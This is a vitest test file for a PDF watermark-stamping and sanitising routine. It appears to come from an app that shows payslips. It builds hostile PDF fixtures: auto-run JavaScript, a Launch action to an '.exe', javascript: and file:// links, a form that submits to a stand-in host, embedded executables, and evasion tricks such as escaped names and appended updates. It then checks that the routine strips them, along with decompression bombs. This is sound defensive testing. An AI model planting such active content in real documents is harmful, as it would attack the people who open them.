import { PDFDocument } from "@cantoo/pdf-lib";
import { describe, expect, it } from "vitest";
import { pdfLimits } from "../../../app/files/pdf/pdf-values";
import { readPdf } from "../../../app/files/pdf/read-pdf";
import { stampPdf } from "../../../app/files/pdf/stamp-pdf";
import {
  costlyPdfs,
  endlessPdfs,
  joinedBytes,
  packedObjects,
  pdfOf,
  pdfStream,
  plainPage,
} from "../../support/hostile-pdf";
import { readPdf as readWords } from "../../support/read-pdf";

const words = "Viewed by Dana Hartley";
const textOf = (bytes: Uint8Array) => Buffer.from(bytes).toString("latin1");

async function shown(source: Uint8Array): Promise<string> {
  const stamped = await stampPdf(source, words);
  if (!stamped.ok) throw new Error(stamped.code);
  const read = await readWords(Uint8Array.from(stamped.value).buffer);
  expect(read.words).toContain("PayslipofAdaBell");
  expect(read.words).toContain("ViewedbyDanaHartley");
  return textOf(stamped.value);
}

describe("a PDF that would exhaust a viewer", () => {
  // Red without `maxOutputLength` in `inflate`, or where a chain of filters is followed.
  it.each(Object.entries(costlyPdfs))("is refused: %s", async (_what, make) => {
    const source = make();
    expect(source.byteLength).toBeLessThan(500_000);
    expect(await stampPdf(source, words)).toMatchObject({ ok: false, code: "too-costly" });
  });

  it.each(Object.entries(endlessPdfs))("is processed in bounded time: %s", async (_what, make) => {
    const stamped = await stampPdf(make(200_000), words);
    expect(stamped.ok ? "stamped" : stamped.code).toMatch(/^(stamped|unreadable|too-costly)$/);
  });

  it("is read up to the limit of unpacked bytes, over all its streams", async () => {
    const half = pdfLimits.unpackedBytes / 2;
    const packed = (letters: number) => packedObjects({ 20: `(${"a".repeat(letters)})` });
    expect(
      (await readPdf(pdfOf({ ...plainPage, 8: packed(half - 50), 9: packed(half - 50) }))).objects.get(20),
    ).toHaveLength(half - 48);
    await expect(readPdf(pdfOf({ ...plainPage, 8: packed(half), 9: packed(half) }))).rejects.toThrow("too-costly");
  });

  it("is read up to the limit of objects", async () => {
    const array = (count: number) => pdfOf({ ...plainPage, 9: `[${"1 ".repeat(count)}]` });
    expect((await readPdf(array(pdfLimits.values - 100))).objects.get(9)).toHaveLength(pdfLimits.values - 100);
    await expect(readPdf(array(pdfLimits.values))).rejects.toThrow("unreadable");
  });
});

const annotation = (action: string) => `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] ${action} >>`;
const withAnnotations = (...annotations: string[]) => ({
  ...plainPage,
  3: `<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Annots [${annotations.join(" ")}] >>`,
});
const evil = "evil-words";
const script = `<< /S /JavaScript /JS (app.alert\\('${evil}'\\)) >>`;
const catalog = (more: string) => ({ ...plainPage, 1: `<< /Type /Catalog /Pages 2 0 R ${more} >>` });

/** Each does something by itself or when it is pressed; all carry the word by which a test finds what was left. */
const active: Record<string, Uint8Array> = {
  "an action at opening": pdfOf(catalog(`/OpenAction ${script}`)),
  "an action behind a reference": pdfOf({ ...catalog("/OpenAction 9 0 R"), 9: script }),
  "names with escapes": pdfOf(catalog(`/Open#41ction << /#53 /Java#53cript /J#53 (${evil}) >>`)),
  "actions of the document": pdfOf(
    catalog(`/AA << /WC ${script} >> /Names << /JavaScript << /Names [(a) ${script}] >> >>`),
  ),
  "actions of a page": pdfOf({
    ...plainPage,
    3: `<< /Type /Page /Parent 2 0 R /Contents 4 0 R /AA << /O ${script} >> >>`,
  }),
  "a link that launches": pdfOf(withAnnotations(annotation(`/A << /S /Launch /F (${evil}.exe) >>`))),
  "a link to a script address": pdfOf(withAnnotations(annotation(`/A << /S /URI /URI (javascript:${evil}) >>`))),
  "a link with an escaped address": pdfOf(withAnnotations(annotation(`/A << /S /URI /URI (f\\151le:///${evil}) >>`))),
  "a link with a chain behind it": pdfOf(
    withAnnotations(annotation(`/A << /S /GoTo /D [3 0 R /Fit] /Next ${script} >>`)),
  ),
  "an action of a kind nobody knows": pdfOf(withAnnotations(annotation(`/A << /S /Unheard /X (${evil}) >>`))),
  "a field that sends": pdfOf(
    withAnnotations(`<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /A << /S /SubmitForm /F (http://${evil}/) >> >>`),
  ),
  "an attached file": pdfOf({
    ...catalog("/Names << /EmbeddedFiles << /Names [(a) 9 0 R] >> >> /AF [9 0 R]"),
    9: "<< /Type /Filespec /F (a.exe) /EF << /F 10 0 R >> >>",
    10: pdfStream("/Type /EmbeddedFile", evil),
  }),
  "an attachment as an annotation": pdfOf({
    ...withAnnotations(
      `<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /EF << /F 10 0 R >> >> /Contents (${evil}) >>`,
    ),
    10: pdfStream("", evil),
  }),
  "moving pictures": pdfOf(
    withAnnotations(`<< /Type /Annot /Subtype /RichMedia /RichMediaContent << /X (${evil}) >> >>`),
  ),
  "a form of forms": pdfOf(catalog(`/AcroForm << /Fields [] /XFA (${evil}) >>`)),
  "within an object stream": pdfOf({
    ...catalog("/OpenAction 20 0 R /X 21 0 R"),
    9: packedObjects({ 20: script, 21: `<< /AA << /WC ${script} >> >>` }),
  }),
  "a catalogue within an object stream": pdfOf(
    { ...plainPage, 1: "null", 9: packedObjects({ 22: `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} >>` }) },
    "<< /Root 22 0 R >>",
  ),
  "an update behind the end": joinedBytes(
    pdfOf(plainPage),
    `1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`,
  ),
  "an older state": joinedBytes(
    pdfOf(catalog(`/OpenAction ${script}`)),
    "1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n",
  ),
  "a picture in another file": pdfOf({
    ...plainPage,
    2: "<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> /XObject << /I 8 0 R >> >> >>",
    8: pdfStream(`/Subtype /Image /Width 1 /Height 1 /F (http://${evil}/)`, "x"),
  }),
};

describe("a PDF prepared for viewing", () => {
  // Red without `isActive` and `removedKeys` in clean-pdf.ts.
  it.each(Object.entries(active))("has no active content: %s", async (_what, source) => {
    const text = await shown(source);
    expect(text).not.toContain(evil);
    expect(text).not.toMatch(/\/(OpenAction|AA|JS|JavaScript|Launch|EmbeddedFiles?|RichMedia\w*|SubmitForm|XFA|EF)\b/);
  });

  it("keeps links to pages and to the web", async () => {
    const text = await shown(
      pdfOf(
        withAnnotations(
          annotation("/A << /S /URI /URI (https://bank.example/a?b=c) >>"),
          annotation("/Dest [3 0 R /Fit]"),
          annotation("/A << /S /GoTo /D [3 0 R /XYZ 0 0 0] >>"),
        ),
      ),
    );
    expect(text).toContain("(https://bank.example/a?b=c)");
    expect(text.match(/\/(Dest|D) \[1 0 R /g)).toHaveLength(2);
  });

  it("shows the newest revision, with inherited names, whatever its offset tables say", async () => {
    const text = await shown(
      joinedBytes(
        pdfOf({ ...plainPage, 4: pdfStream("", "BT (Old) Tj ET") }),
        `4 0 obj\n${textOf(pdfStream("", "BT /F1 12 Tf 72 770 Td (Payslip of Ada Bell) Tj ET"))}\nendobj\n`,
      ),
    );
    expect(text).not.toContain("(Old)");
  });

  it("with compressed object streams stays readable", async () => {
    const source = await PDFDocument.create();
    source.addPage([300, 300]).drawText("Payslip of Ada Bell");
    const stamped = await stampPdf(await source.save({ useObjectStreams: true }), words);
    expect(stamped.ok && (await readWords(Uint8Array.from(stamped.value).buffer)).words).toContain("PayslipofAdaBell");
  });
});
